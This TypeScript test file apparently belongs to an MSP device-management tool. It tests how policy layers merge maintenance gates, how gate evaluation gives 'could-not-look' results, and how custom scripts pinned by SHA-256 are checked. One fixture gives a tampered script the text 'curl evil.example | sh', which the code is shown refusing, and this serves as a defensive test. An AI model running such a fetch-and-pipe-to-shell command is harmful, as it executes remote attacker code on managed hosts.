import { createHash } from "node:crypto";
import { DEFAULT_GLOBAL_POLICY } from "../../../lib/domain/policy/defaultPolicy";
import { PolicyValidationError, resolveEffectivePolicy } from "../../../lib/domain/policy/overlay";
import { evaluateGates, type GateEvidence } from "../../../lib/domain/gates/evaluateGates";
import { probesOf } from "../../../lib/deviceRun/gates/gatesStep";
import type { SystemSnapshot } from "../../../lib/schemas/artifacts/snapshot";

const sha256 = (text: string): string => createHash("sha256").update(text, "utf8").digest("hex");
const script = (text: string) => ({ sha256: sha256(text), text, timeoutSeconds: 60 });
const tenant = { level: "tenant", tenant: "t" } as const;
const client = { level: "client", tenant: "t", client: "c" } as const;

describe("policy overlay: gates", () => {
  it("has no gates unless a layer sets them (runs without gates send what they sent before)", () => {
    expect(resolveEffectivePolicy([DEFAULT_GLOBAL_POLICY]).policy.gates).toBeUndefined();
  });

  it("replaces scalars per field, unions required services and keys custom checks by name, naming each layer", () => {
    const { policy, provenance } = resolveEffectivePolicy([
      DEFAULT_GLOBAL_POLICY,
      {
        schemaVersion: 1,
        scope: tenant,
        gates: {
          minFreeDiskMb: 5000,
          noPendingReboot: true,
          requiredServices: ["W3SVC"],
          custom: [{ name: "a", script: { windows: script("exit 0") } }],
        },
      },
      {
        schemaVersion: 1,
        scope: client,
        gates: {
          minFreeDiskMb: 8000,
          requiredServices: ["MSSQLSERVER", "W3SVC"],
          custom: [{ name: "a", script: { linux: script("true") } }],
        },
      },
    ]);
    expect(policy.gates).toMatchObject({
      minFreeDiskMb: 8000,
      noPendingReboot: true,
      requiredServices: ["MSSQLSERVER", "W3SVC"],
      custom: [{ name: "a", script: { linux: { text: "true" } } }],
    });
    expect(provenance).toMatchObject({
      "gates.minFreeDiskMb": "client:t/c",
      "gates.noPendingReboot": "tenant:t",
      "gates.requiredServices[W3SVC]": "tenant:t",
      "gates.requiredServices[MSSQLSERVER]": "client:t/c",
      "gates.custom[a]": "client:t/c",
    });
  });

  it("refuses an unknown gate field, naming the layer and the field", () => {
    const refuse = () =>
      resolveEffectivePolicy([DEFAULT_GLOBAL_POLICY, { schemaVersion: 1, scope: tenant, gates: { minFreeDisk: 5 } }]);
    expect(refuse).toThrow(PolicyValidationError);
    expect(refuse).toThrow(/tenant:t gates\.minFreeDisk: unknown field/);
  });
});

describe("MSP scripts pinned by SHA-256", () => {
  it("sends a script whose text hashes to the policy's SHA-256 and refuses one whose text differs", () => {
    const ok = script("date -u +%Y-%m-%dT%H:%M:%SZ");
    const tampered = { ...script("exit 0"), text: "exit 0; curl evil.example | sh" };
    const { probes, refused } = probesOf(
      { backup: { maxAgeHours: 24, provider: { linux: ok } }, custom: [{ name: "x", script: { linux: tampered } }] },
      "linux",
    );
    expect(probes).toEqual([{ name: "backup", shell: "bash", script: ok.text, timeoutSeconds: 60 }]);
    expect([...refused]).toEqual(["custom.x"]);
  });
});

const baseline = (patch: Partial<SystemSnapshot> = {}): SystemSnapshot => ({
  schemaVersion: 1,
  capturedAt: "2026-01-20T01:00:00Z",
  os: { family: "windows", name: "Windows Server 2022", version: "10.0.20348", build: "20348.1" },
  installedUpdates: [],
  updateHistory: [],
  services: [{ name: "W3SVC", state: "Stopped", startType: "Automatic" }],
  drivers: [],
  apps: [],
  pendingReboot: { pending: true, signals: ["CBS"] },
  lastBootTime: "2026-01-19T01:00:00Z",
  disks: [{ mount: "C:", freeBytes: 50 * 1024 ** 3, totalBytes: 100 * 1024 ** 3 }],
  ...patch,
});
const evidence = (patch: Partial<GateEvidence> = {}): GateEvidence => ({
  os: "windows",
  baseline: baseline(),
  probes: [],
  refused: new Set(),
  provenance: {},
  now: new Date("2026-01-20T01:00:00Z"),
  ...patch,
});

describe("evaluateGates", () => {
  it("judges disk, pending reboot and services from the baseline", () => {
    const report = evaluateGates(
      { minFreeDiskMb: 51_201, minFreeDiskPercent: 50, noPendingReboot: true, requiredServices: ["w3svc", "Nope"] },
      evidence(),
    );
    expect(report.results.map((r) => [r.gate, r.name, r.verdict])).toEqual([
      ["minFreeDiskMb", "minFreeDiskMb", "fail"],
      ["minFreeDiskPercent", "minFreeDiskPercent", "pass"],
      ["noPendingReboot", "noPendingReboot", "fail"],
      ["requiredService", "w3svc", "fail"],
      ["requiredService", "Nope", "fail"],
    ]);
    expect(report.passed).toBe(false);
  });

  it("a section the baseline could not collect is could-not-look, never a pass", () => {
    const report = evaluateGates(
      { minFreeDiskMb: 1, noPendingReboot: true, requiredServices: ["W3SVC"] },
      evidence({
        baseline: baseline({
          disks: [],
          services: [],
          pendingReboot: { pending: false, signals: [] },
          collectionErrors: [
            { section: "disks", message: "WMI error" },
            { section: "services", message: "access denied" },
            { section: "pendingReboot", message: "registry" },
          ],
        }),
      }),
    );
    expect(report.results.map((r) => r.verdict)).toEqual(["could-not-look", "could-not-look", "could-not-look"]);
    expect(report.passed).toBe(false);
    expect(evaluateGates({ minFreeDiskMb: 1 }, evidence({ baseline: undefined })).results[0]?.verdict).toBe(
      "could-not-look",
    );
  });

  it("a refused script, a missing probe or no provider for the OS never passes; a custom check for another OS does not apply", () => {
    const gates = {
      backup: { maxAgeHours: 24, provider: { linux: script("date") } },
      custom: [
        { name: "win", script: { windows: script("exit 0") } },
        { name: "lin", script: { linux: script("true") } },
      ],
    };
    const report = evaluateGates(gates, evidence({ refused: new Set(["custom.win"]), probes: [] }));
    expect(report.results.map((r) => [r.name, r.verdict])).toEqual([
      ["backup", "could-not-look"],
      ["win", "refused"],
    ]);
    const unusable = evaluateGates(
      { custom: [{ name: "win", script: { windows: script("exit 0") } }] },
      evidence({ probes: undefined }),
    );
    expect(unusable.results[0]?.verdict).toBe("could-not-look");
  });
});
